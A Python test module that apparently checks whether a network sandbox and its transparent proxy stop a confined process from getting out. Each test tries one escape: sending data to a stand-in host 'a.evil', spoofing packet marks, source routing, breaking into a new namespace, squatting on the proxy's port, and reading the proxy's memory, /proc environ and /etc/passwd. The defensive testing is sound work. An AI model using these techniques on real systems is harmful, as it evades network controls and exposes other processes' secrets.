# SPDX-License-Identifier: MIT
"""Ways out through ordinary sockets: TCP, UDP and what is built on them."""
import ctypes
import socket
import struct

from agent import LIBC, PROXY_GROUP
from field import APPLICATION, BOUND, PROXY_USER, RAW, attack, guesses, marked, trying
from packet import icmp

IP_FREEBIND, IP_TRANSPARENT, IPV6_FREEBIND, IPV6_TRANSPARENT = 15, 19, 78, 75
MSG_FASTOPEN, TCP_FASTOPEN_CONNECT = 0x20000000, 30
IPPROTO_MPTCP, IPPROTO_UDPLITE, UDP_SEGMENT = 262, 136, 103
IPV6_HOPOPTS, IPV6_RTHDR, IPV6_DSTOPTS = 54, 57, 59
CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
EVERYBODY = (APPLICATION, PROXY_USER, PROXY_GROUP)
MULTICAST = {4: (("224.0.0.251", 5353), ("239.255.255.250", 1900), ("224.0.0.252", 5355), ("224.0.0.1", 9)),
             6: (("ff02::fb", 5353), ("ff02::c", 1900), ("ff02::1:3", 5355), ("ff05::c", 1900), ("ff0e::101", 123),
                 ("ff02::1", 9))}


@attack("TCP to any port", *EVERYBODY)
def tcp_ports(a):
    for port in (443, 22, 53, 853, 15001, 65535):
        a.talk(port)


@attack("TCP with somebody's mark", RAW, PROXY_USER)
def tcp_marked(a):
    a.talk_all(((a.evil, 443), [marked(mark)]) for mark in a.marks + guesses())


@attack("TCP with somebody's mark, bound to the device", RAW, PROXY_USER)
def tcp_marked_bound(a):
    a.talk_all(((a.evil, 443), [marked(mark), BOUND]) for mark in a.marks + guesses())


@attack("TCP bound to the device", *EVERYBODY)
def tcp_bound(a):
    a.talk_all(((address, 80), [BOUND]) for address in (a.evil, a.origin))


@attack("TCP to the link-local address of the gateway", APPLICATION, PROXY_USER, families=(6,))
def tcp_link_local(a):
    where = (a.gateway_link, 443, 0, socket.if_nametoindex("eth0"))
    a.talk_all((where, options) for options in ((), (BOUND,)))


@attack("TCP from an address that is not ours", RAW, PROXY_USER)
def tcp_foreign(a):
    free, transparent = ((socket.IPPROTO_IP, IP_FREEBIND, 1), (socket.IPPROTO_IP, IP_TRANSPARENT, 1)) if a.family == 4 else \
        ((socket.IPPROTO_IPV6, IPV6_FREEBIND, 1), (socket.IPPROTO_IPV6, IPV6_TRANSPARENT, 1))
    for option in (free, transparent):
        with a.socket(options=[option]) as sock, trying():
            a.bind(sock, a.raw)
            sock.settimeout(0.1)
            sock.connect((a.evil, 443))


@attack("TCP Fast Open", *EVERYBODY)
def fast_open(a):
    for port in (443, 80):
        with a.socket() as sock, trying():
            a.bind(sock)
            sock.sendto(a.tag, MSG_FASTOPEN, (a.evil, port))
            sock.recv(100)
        a.talk(port, options=[(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)])


@attack("MPTCP", *EVERYBODY)
def mptcp(a):
    a.talk(443, protocol=IPPROTO_MPTCP)
    a.talk(80, a.origin, protocol=IPPROTO_MPTCP)
    a.talk_all([((a.evil, 80), [BOUND], socket.SOCK_STREAM, IPPROTO_MPTCP)])


@attack("TCP with a source route", RAW, PROXY_USER)
def source_route(a):
    if a.family == 4:
        for first in (a.gateway, a.evil):
            route = b"\x83\x07\x04" + socket.inet_aton(first) + b"\0"
            options = [(socket.IPPROTO_IP, socket.IP_OPTIONS, route)]
            a.talk_all([((a.evil, 443), options)])
            a.send(443, options=options)
        return
    hop = b"\x3a\0\x05\x02\0\0\x01\0"
    routing = b"\x3a\x02\x04\0\0\0\0\0" + socket.inet_pton(socket.AF_INET6, a.gateway)
    for option, value in ((IPV6_HOPOPTS, hop), (IPV6_DSTOPTS, b"\x3a\0\x01\x04\0\0\0\0"), (IPV6_RTHDR, routing)):
        with trying():
            a.talk_all([((a.evil, 443), [(socket.IPPROTO_IPV6, option, value)])])
            a.send(443, options=[(socket.IPPROTO_IPV6, option, value)])


@attack("UDP to any port", *EVERYBODY)
def udp_ports(a):
    for port in (443, 53, 853, 123, 5353, 9, 15001):
        a.send(port)
    a.send(53, a.nameserver)


@attack("UDP with somebody's mark", RAW, PROXY_USER)
def udp_marked(a):
    for mark in a.marks + guesses():
        a.send(443, options=[marked(mark)])
        a.send(53, a.nameserver, options=[marked(mark), BOUND])


@attack("UDP bound to the device", *EVERYBODY)
def udp_bound(a):
    a.send(443, options=[BOUND])
    a.send(53, a.nameserver, options=[BOUND])


@attack("UDP to the link-local address of the gateway", APPLICATION, PROXY_USER, families=(6,))
def udp_link_local(a):
    index = socket.if_nametoindex("eth0")
    with a.socket(socket.SOCK_DGRAM) as sock, trying():
        a.bind(sock)
        sock.sendto(a.tag, (a.gateway_link, 53, 0, index))


@attack("UDP in segments and in fragments", *EVERYBODY)
def udp_large(a):
    a.send(443, data=a.tag * 500)
    a.send(443, options=[(socket.IPPROTO_UDP, UDP_SEGMENT, struct.pack("i", 500))], data=a.tag * 100)


@attack("UDP-Lite", *EVERYBODY)
def udp_lite(a):
    a.send(443, protocol=IPPROTO_UDPLITE)


@attack("UDP to everybody", *EVERYBODY)
def broadcast(a):
    options = [(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)]
    for address in ("255.255.255.255", a.me.rpartition(".")[0] + ".255") if a.family == 4 else ("ff02::1%eth0",):
        a.send(67, address, options)
        a.send(9, address, options + [BOUND])


@attack("UDP to groups: mDNS, SSDP, LLMNR", *EVERYBODY)
def multicast(a):
    index = socket.if_nametoindex("eth0")
    for address, port in MULTICAST[a.family]:
        with a.socket(socket.SOCK_DGRAM) as sock, trying():
            if a.family == 4:
                sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(a.me))
            else:
                sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
            a.bind(sock)
            sock.sendto(a.tag, (address, port))


@attack("joining a group: IGMP", APPLICATION, families=(4,), control=False)
def igmp(a):
    with a.socket(socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                        socket.inet_aton("239.1.2.3") + socket.inet_aton(a.me))


@attack("UDP from the port that the proxy asked the name server from", *EVERYBODY, control=False)
def resolver_port(a):
    with a.socket(socket.SOCK_DGRAM) as sock, trying():
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("::" if a.family == 6 else "0.0.0.0", a.dns_port))
        for _ in range(3):
            with trying():
                sock.sendto(a.tag, (a.nameserver, 53))


@attack("ICMP echo through a ping socket", *EVERYBODY)
def ping_socket(a):
    with a.ping_socket() as sock, trying():
        body = icmp(a.me, a.evil, 8 if a.family == 4 else 128, payload=a.tag)
        for _ in range(3):
            with trying():
                sock.sendto(body, (a.evil, 0))


@attack("the proxy's port, by every local address", *EVERYBODY, control=False)
def proxys_port(a):
    for sock, where in a.connect_all(((address, 15001), ()) for address in local(a)):
        answer = b""
        with trying():
            sock.sendall(b"GET / HTTP/1.1\r\nHost: origin.test\r\n\r\n")
            answer = sock.recv(100)
        assert a.bare or not answer, f"{where}: the proxy answers"


@attack("web ports of every local address", *EVERYBODY, control=False)
def local_ports(a):
    a.talk_all(((address, port), ()) for address in local(a) for port in (80, 443))


def local(a):
    return [*a.mine, "::" if a.family == 6 else "0.0.0.0"]


@attack("sockets of other families", RAW, PROXY_USER, control=False, families=(4,))
def other_families(a):
    kinds = [(socket.AF_INET, socket.SOCK_SEQPACKET, 132), (socket.AF_INET, 6, 33), (socket.AF_INET, socket.SOCK_DGRAM, 115),
             (40, socket.SOCK_STREAM, 0), (43, socket.SOCK_STREAM, 0), (21, socket.SOCK_SEQPACKET, 0),
             (30, socket.SOCK_DGRAM, 0), (33, socket.SOCK_DGRAM, socket.AF_INET), (26, socket.SOCK_DGRAM, 0),
             (24, socket.SOCK_STREAM, 0), (29, socket.SOCK_RAW, 1), (36, socket.SOCK_RAW, 0), (39, socket.SOCK_RAW, 0)]
    for family, kind, protocol in kinds:
        for where in ((a.evil, 443), (2, 443)):  # of internet sockets; of AF_VSOCK
            with trying(), socket.socket(family, kind, protocol) as sock:
                try:
                    sock.settimeout(0.1)
                    sock.connect(where)
                    sock.send(a.tag)
                except (TypeError, ValueError):
                    pass


@attack("a user namespace of one's own", APPLICATION, control=False)
def own_namespace(a):
    if LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNET) != 0:
        return
    with a.socket(socket.SOCK_DGRAM) as sock:
        try:
            sock.sendto(a.tag, (a.evil, 443))
        except OSError:
            return
    raise AssertionError("a fresh namespace has a way out")


@attack("what the proxy's process holds", PROXY_USER, control=False, families=(4,))
def proxys_process(a):
    """Its sockets, its memory, the mark in it."""
    if not a.served:
        return
    pidfd = LIBC.syscall(434, a.proxy, 0)
    assert pidfd >= 0, "pidfd_open"
    for fd in range(3, 64):
        assert LIBC.syscall(438, pidfd, fd, 0) < 0, f"pidfd_getfd got descriptor {fd}"
    assert LIBC.ptrace(16, a.proxy, 0, 0) < 0, "ptrace attached"
    buffer = ctypes.create_string_buffer(16)
    vector = struct.pack("PN", ctypes.addressof(buffer), 16)
    assert LIBC.process_vm_readv(a.proxy, vector, 1, struct.pack("PN", 0x400000, 16), 1, 0) < 0, "its memory was read"
    for name in ("mem", "environ", "maps", "fd/0", "root/etc/passwd"):
        try:
            with open(f"/proc/{a.proxy}/{name}", "rb") as file:
                data = file.read(16)
        except OSError:
            continue
        assert not data, f"/proc/PID/{name} was read"


@attack("squatting on the proxy's port", APPLICATION, PROXY_USER, control=False)
def squatting(a):
    """What it gets may be other people's connections, but goes nowhere; a proxy that runs keeps its port."""
    with a.socket() as sock, trying():
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        sock.bind(("::" if a.family == 6 else "0.0.0.0", 15001))
        sock.listen(4)
        assert not a.served, "bound beside the proxy"
        with a.socket() as client, trying():
            a.bind(client)
            client.settimeout(0.1)
            client.connect((a.evil, 443))
            client.sendall(a.tag)
            sock.settimeout(0.1)
            peer, _ = sock.accept()
            with peer:
                peer.recv(100)
